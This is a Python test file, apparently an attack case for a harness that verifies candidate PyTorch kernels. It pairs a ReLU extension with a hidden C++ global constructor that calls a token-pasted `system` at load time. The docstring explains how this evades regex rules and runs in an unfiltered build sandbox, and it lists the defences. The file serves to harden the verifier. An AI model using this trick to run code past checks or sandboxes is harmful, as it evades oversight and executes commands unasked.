"""Class 3 - native rules are regexes, and a load_inline build imports what it built: a C++ global
object's constructor is ordinary C++ (no attribute for a rule to find) and runs whenever the
extension is loaded, including inside the build sandbox, which has no seccomp filter. There it
starts a shell (`system`, token-pasted) that writes a file into the build folder, and the verifier
publishes that folder into its build cache. In the worker the same call is denied and ignored.
Defences: the binary judge (no initialisers of the candidate's own, no process APIs) and the run's
seccomp filter in the build sandbox too."""
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

CPP_SOURCE = r"""
#include <cstdlib>
#define J(a, b) a##b

struct AtLoad {
    AtLoad() { J(sys, tem)("echo ran-at-build-time > evk_attack_build_marker.txt 2>/dev/null"); }
};
static AtLoad at_load;

torch::Tensor relu_fwd(torch::Tensor x) {
    torch::Tensor out = torch::empty_like(x);
    const float* s = x.data_ptr<float>();
    float* d = out.data_ptr<float>();
    for (int64_t i = 0; i < x.numel(); ++i) d[i] = s[i] < 0.0f ? 0.0f : s[i];
    return out;
}
"""

ext = load_inline(name="evk_attack_build_init", cpp_sources=[CPP_SOURCE], functions=["relu_fwd"],
                  extra_cflags=["-O1"], verbose=False)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return ext.relu_fwd(x.contiguous())
